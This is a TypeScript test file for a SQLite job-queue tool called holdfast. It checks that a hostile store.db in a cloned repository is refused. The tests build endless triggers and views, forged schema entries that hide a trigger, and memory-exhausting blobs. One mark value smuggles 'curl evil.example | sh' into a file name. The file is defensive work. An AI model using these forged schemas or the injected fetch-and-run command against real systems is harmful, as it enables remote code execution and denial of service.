/** A `store.db` that came with a repository was written by its author: opening it runs nothing of theirs. */
import { spawnSync } from 'node:child_process'
import { copyFileSync, linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type HoldfastError, importZjj, isHoldfastError, open } from 'holdfast'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { cleanEnvironment, program } from '../support/cli.ts'
import { openRaw, type RawDatabase } from '../support/sqlite-file.ts'

const quiet = { background: false, logger: false } as const
/** A command takes a fraction of a second; what hangs is ended. */
const patienceMs = 10_000

let folder: string
let template: string

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'holdfast-hostile-'))
  template = join(folder, 'template.db')
  const hf = await open(template, quiet)
  await hf.queue('jobs').add('work')
  await hf.close()
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** A clone whose store was changed by its author. */
function aClone(change: (database: RawDatabase, store: string) => void): {
  repository: string
  store: string
} {
  const repository = mkdtempSync(join(folder, 'clone-'))
  const store = join(repository, '.holdfast', 'store.db')
  mkdirSync(join(repository, '.git'))
  mkdirSync(join(repository, '.holdfast'))
  copyFileSync(template, store)
  const database = openRaw(store)
  database.exec('pragma journal_mode = delete')
  change(database, store)
  if (database.isOpen) database.close()
  return { repository, store }
}

async function refusalOf(store: string): Promise<HoldfastError> {
  const opened = await open(store, quiet).catch((error: unknown) => error)
  if (isHoldfastError(opened)) return opened
  throw new Error(`${store} was not refused`)
}

/** In a process of its own, which can be ended. */
function run(cwd: string, ...args: string[]) {
  const { status, signal, stdout, stderr } = spawnSync(process.execPath, [program, ...args], {
    cwd,
    env: cleanEnvironment(),
    encoding: 'utf8',
    timeout: patienceMs,
    killSignal: 'SIGKILL',
  })
  return { status, signal, stdout, stderr }
}

/** What SQLite would refuse to write is written into the file itself. */
function patch(store: string, from: string, to: string): void {
  const bytes = readFileSync(store).toString('latin1')
  writeFileSync(store, bytes.replaceAll(from, to), 'latin1')
}

const numbers = 'with recursive c(n) as (select 1 union all select n + 1 from c)'
const endless = `(${numbers} select count(*) from c)`

const trigger = `create trigger t after insert on item begin insert into cascade select 'x', n, 1 from (${numbers} select n from c); end`

/** Past what SQLite lets others write. */
const forge = (sql: string) => (database: RawDatabase) =>
  database.exec(`${trigger}; create table held (x); pragma writable_schema = on; ${sql}`)

/** Each would never come to an end if it ran. */
const attacks = {
  'a trigger': (database: RawDatabase) => database.exec(trigger),
  'a view in the place of a table': (database: RawDatabase) =>
    database.exec(`drop table meta; create view meta as select 'name' as key, ${endless} as value`),
  'a view in the place of a pragma': (database: RawDatabase) =>
    database.exec(`create view pragma_user_version as select ${endless} as user_version`),
}

/** The same trigger, put where a look at the schema might pass over it. */
const disguises = {
  bytes: "update sqlite_master set sql = cast(sql as blob) where name = 't'",
  'no text': "update sqlite_master set sql = '' where name = 't'",
  'the name of a table': "update sqlite_master set name = 'meta' where name = 't'",
  'an index of a key':
    "update sqlite_master set type = 'index', name = 'sqlite_autoindex_item_9' where name = 't'",
  'behind the end of a text': "update sqlite_master set sql = sql || char(0) || ' ' where name = 'item'",
  'behind another table of tables':
    "update sqlite_master set name = 'sqlite_schema', tbl_name = 'sqlite_schema', sql = 'CREATE TABLE sqlite_schema (type, name, tbl_name, rootpage, sql)' where name = 'held'",
}

describe('a store whose schema was changed', () => {
  test.each(Object.entries(disguises))('by a trigger disguised as %s is refused [S5d-4]', (_, sql) => {
    const { repository } = aClone(forge(sql))

    const refused = run(repository, 'queue', 'add', 'jobs', '1')

    expect(refused).toMatchObject({ status: 10, signal: null })
  })

  test.each(Object.entries(attacks))('by %s is refused and left as it is [S5d-4]', (_, change) => {
    const { repository, store } = aClone(change)
    const before = readFileSync(store)

    const refused = run(repository, 'queue', 'add', 'jobs', '1')

    expect(refused).toMatchObject({ signal: null, stderr: expect.stringContaining('schema of') })
    expect(refused.status).not.toBe(0)
    expect(readFileSync(store).equals(before)).toBe(true)
  })

  test.each<[string, (database: RawDatabase, store: string) => void]>([
    ['one more table', (database) => database.exec('create table extra (x)')],
    ['a missing index', (database) => database.exec('drop index item_ready')],
    ['another default', (_, store) => patch(store, 'default 1 check (depth', 'default 2 check (depth')],
  ])('by %s is refused and left as it is [S5d-4]', async (_, change) => {
    const { store } = aClone(change)
    const before = readFileSync(store)

    await expect(open(store, quiet)).rejects.toMatchObject({ code: 'STORE_UNFIT' })
    expect(readFileSync(store).equals(before)).toBe(true)
  })

  test('is refused by completion, under its second name and as the source of a copy [S5d-4]', () => {
    const { repository, store } = aClone(attacks['a view in the place of a table'])

    const completed = run(repository, 'complete', '--', 'queue', 'peek', '')
    const copied = run(repository, 'copy', '--from', store, '--to', join(repository, 'copy.db'))
    linkSync(store, join(repository, '.holdfast', 'other.db'))
    const linked = run(repository, 'status')

    expect(completed).toEqual({ status: 0, signal: null, stdout: '', stderr: '' })
    expect([copied.signal, linked.signal]).toEqual([null, null])
    expect([copied.status, linked.status]).not.toContain(0)
  })

  test('is accepted if only rows were changed, if it was vacuumed, and if it was rebuilt from a dump [S5d-4]', async () => {
    const { store } = aClone((database) => database.exec("update queue set paused_by = 'ada'; vacuum"))
    const rebuilt = `${store}.rebuilt`
    const [from, to] = [openRaw(store), openRaw(rebuilt)]
    const rows = from.prepare("select sql from sqlite_master where sql <> ''").all() as { sql: string }[]
    for (const { sql } of rows) to.exec(sql)
    to.exec(`pragma application_id = ${0x686f6c64}; pragma user_version = 1`)
    from.close()
    to.close()

    for (const each of [store, rebuilt]) {
      const hf = await open(each, quiet)
      await hf.queue('jobs').add('more')
      await hf.close()
    }
  })
})

describe('a store with more data than memory should hold', () => {
  const peak = "process.on('exit', () => process.stderr.write(String(process.resourceUsage().maxRSS)))"
  const long = 'hex(zeroblob(50000000))'
  const columns =
    'namespace, queue, workflow, state, phase, priority, ancestors, blockers, waiting_for, attempts, failures, crashes, exposures, crash_resets, max_attempts, added_at, state_changed_at, version, token, data'
  const many = `with recursive c(n) as (select 1 union all select n + 1 from c where n < 400)
insert into item (id, payload, ${columns}) select id || n, json_quote(hex(zeroblob(125000))), ${columns} from item, c`

  /** What a tab offers as items of a queue, and the most memory that its process ever had, in MB. */
  function completeItems(cwd: string): { offered: string[]; megabytes: number } {
    const words = [
      '--import',
      `data:text/javascript,${peak}`,
      program,
      'complete',
      '--',
      'queue',
      'show',
      'jobs',
      '',
    ]
    const { stdout, stderr } = spawnSync(process.execPath, words, {
      cwd,
      env: cleanEnvironment(),
      encoding: 'utf8',
      timeout: patienceMs,
      killSignal: 'SIGKILL',
    })
    return { offered: stdout.split('\n').filter(Boolean), megabytes: Number(stderr) / 1024 }
  }

  /** 100 MB that were read would take three times as much. */
  const allowance = 60

  test('is not read by completion, which offers everything else in it [S5d-4]', async () => {
    const { repository: friendly, store } = aClone(() => {})
    const hf = await open(store, quiet)
    await hf.queue('jobs').add('more')
    await hf.close()
    const { repository } = aClone((database) =>
      database.exec(
        `insert into item (id, payload, ${columns}) select id || '-long', json_quote(${long}), ${columns} from item`,
      ),
    )

    const usual = completeItems(friendly)
    const bounded = completeItems(repository)

    expect(usual.offered).toHaveLength(2)
    expect(bounded.offered).toHaveLength(1)
    expect(usual.megabytes).toBeGreaterThan(20)
    expect(bounded.megabytes - usual.megabytes).toBeLessThan(allowance)
  })

  test('is read by completion only up to a few megabytes [S5d-4]', () => {
    const usual = completeItems(aClone(() => {}).repository)
    const bounded = completeItems(aClone((database) => database.exec(many)).repository)

    expect(bounded.offered.length).toBeGreaterThan(10)
    expect(bounded.megabytes - usual.megabytes).toBeLessThan(allowance)
  })

  test('in place of a mark is refused by every command, unread [S5d-4]', async () => {
    const { store } = aClone((database) =>
      database.exec("insert into meta (key, value) values ('moved', hex(zeroblob(1000000)))"),
    )

    const refusal = await refusalOf(store)

    expect(refusal).toMatchObject({ code: 'STORE_UNFIT', what: expect.stringContaining('longer than any') })
  })
})

describe('a mark that the author of a store left in it', () => {
  const evil = 'x.db; curl evil.example | sh #'
  const copyMark = {
    id: 'a',
    source: 'b',
    from: evil,
    newestEvent: 0,
    shiftMs: 0,
    startedAt: 0,
    finishedAt: null,
    positions: {},
  }

  test.each([
    ['moved', JSON.stringify({ copy: 'a', to: evil, at: 0 })],
    ['copy', JSON.stringify(copyMark)],
  ])('is quoted, and never a command to type: %s [S5d-4]', async (key, value) => {
    const { store } = aClone((database) =>
      database.prepare('insert into meta (key, value) values (?, ?)').run(key, value),
    )

    const refusal = await refusalOf(store)

    expect(refusal.code).toBe('STORE_UNFIT')
    expect(refusal.what).toContain(JSON.stringify(evil))
    expect(refusal.next).not.toContain('evil')
  })

  test.each([
    ['moved', '{'],
    ['moved', '{"to":7}'],
    ['copy', 'null'],
    ['copy', '[]'],
  ])('that cannot be read makes the store unfit: %s %s [S5d-4]', async (key, value) => {
    const { store } = aClone((database) =>
      database.prepare('insert into meta (key, value) values (?, ?)').run(key, value),
    )

    expect(await refusalOf(store)).toMatchObject({ code: 'STORE_UNFIT', facts: { mark: key } })
  })
})

describe('a file to be imported', () => {
  test.each([
    [
      'a column that makes 600 MB of nothing',
      'create table merge_queue (id, big generated always as (hex(zeroblob(300000000)))); insert into merge_queue values (1)',
    ],
    ['a table whose rows are made by code', 'create virtual table merge_queue using fts5(id)'],
    ['a view in the place of a table', `create view merge_queue as select ${endless} as id`],
  ])('with %s is refused [S5d-4]', async (_, sql) => {
    const path = join(mkdtempSync(join(folder, 'import-')), 'zjj.db')
    const database = openRaw(path)
    database.exec(sql)
    database.close()
    const hf = await open('sqlite::memory:', quiet)

    const imported = importZjj(hf, path)

    await expect(imported).rejects.toMatchObject({ code: 'INVALID' })
    await hf.close()
  })
})
